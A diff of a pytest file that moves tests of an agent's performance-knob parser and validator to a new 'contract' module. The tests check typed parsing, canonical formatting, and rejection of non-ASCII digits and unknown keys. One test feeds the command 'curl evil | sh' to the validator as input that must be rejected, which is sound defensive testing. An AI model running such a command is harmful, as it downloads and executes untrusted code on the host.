@@ -12,13 +12,15 @@ from pathlib import Path
 import pytest
 
 from agent import knobs
-from agent.knobs import KnobError, StepLimit
+from agent.knobs import StepLimit
+from contract import knobs as catalogue
+from contract.knobs import KnobError
 
 REPO = Path(__file__).resolve().parents[2]
 
 
 def test_it_parses_the_env_form_into_typed_values() -> None:
-    assert knobs.parse_knobs("num_workers=4, pin_memory=true,threads=2") == {
+    assert catalogue.parse_knobs("num_workers=4, pin_memory=true,threads=2") == {
         "num_workers": 4,
         "pin_memory": True,
         "threads": 2,
@@ -26,8 +28,8 @@ def test_it_parses_the_env_form_into_typed_values() -> None:
 
 
 def test_it_formats_back_canonically() -> None:
-    settings = knobs.parse_knobs("threads=2,amp=BF16,empty_cache=off")
-    assert knobs.format_knobs(settings) == "amp=bf16,empty_cache=off,threads=2"
+    settings = catalogue.parse_knobs("threads=2,amp=BF16,empty_cache=off")
+    assert catalogue.format_knobs(settings) == "amp=bf16,empty_cache=off,threads=2"
 
 
 @pytest.mark.parametrize(
@@ -44,7 +46,7 @@ def test_it_formats_back_canonically() -> None:
 )
 def test_it_rejects_anything_off_the_closed_list(text: str, message: str) -> None:
     with pytest.raises(KnobError) as error:
-        knobs.parse_knobs(text)
+        catalogue.parse_knobs(text)
     assert message in str(error.value)
     assert "\n" not in str(error.value)
 
@@ -52,35 +54,36 @@ def test_it_rejects_anything_off_the_closed_list(text: str, message: str) -> Non
 @pytest.mark.parametrize("raw", ["4_0", "\u0664", "\uff14", "\u00b2", "4\u0660", "0x4", " 4 0"])
 def test_it_accepts_ascii_digits_only_as_a_whole_number(raw: str) -> None:
     with pytest.raises(KnobError) as error:
-        knobs.parse_knobs(f"num_workers={raw}")
+        catalogue.parse_knobs(f"num_workers={raw}")
     assert "is not a whole number" in str(error.value)
     with pytest.raises(KnobError):
-        knobs.validate_knobs({"threads": raw})
+        catalogue.validate_knobs({"threads": raw})
     with pytest.raises(KnobError):
         knobs.max_steps_from_env({"PERF_AGENT_MAX_STEPS": raw})
 
 
 def test_it_still_reads_signed_ascii_numbers() -> None:
-    assert knobs.parse_knobs("num_workers=+4, threads= 12 ") == {"num_workers": 4, "threads": 12}
+    settings = catalogue.parse_knobs("num_workers=+4, threads= 12 ")
+    assert settings == {"num_workers": 4, "threads": 12}
     assert knobs.max_steps_from_env({"PERF_AGENT_MAX_STEPS": " 40 "}) == 40
 
 
 def test_it_revalidates_typed_job_settings() -> None:
-    assert knobs.validate_knobs({"num_workers": 2, "pin_memory": True}) == {
+    assert catalogue.validate_knobs({"num_workers": 2, "pin_memory": True}) == {
         "num_workers": 2,
         "pin_memory": True,
     }
     with pytest.raises(KnobError):
-        knobs.validate_knobs({"command": "curl evil | sh"})
+        catalogue.validate_knobs({"command": "curl evil | sh"})
     with pytest.raises(KnobError):
-        knobs.validate_knobs({"num_workers": [1]})
+        catalogue.validate_knobs({"num_workers": [1]})
 
 
 def test_every_knob_names_a_finding_of_the_catalog() -> None:
     catalog = REPO.parent / "shared" / "FIXES.md"
     fixes = catalog.read_text() if catalog.exists() else ""
-    for name, knob in knobs.KNOBS.items():
-        assert knobs.FINDING_KNOBS[knob.finding_id] == name
+    for name, knob in catalogue.KNOBS.items():
+        assert catalogue.FINDING_KNOBS[knob.finding_id] == name
         if fixes:
             assert f"`{knob.finding_id}`" in fixes
 
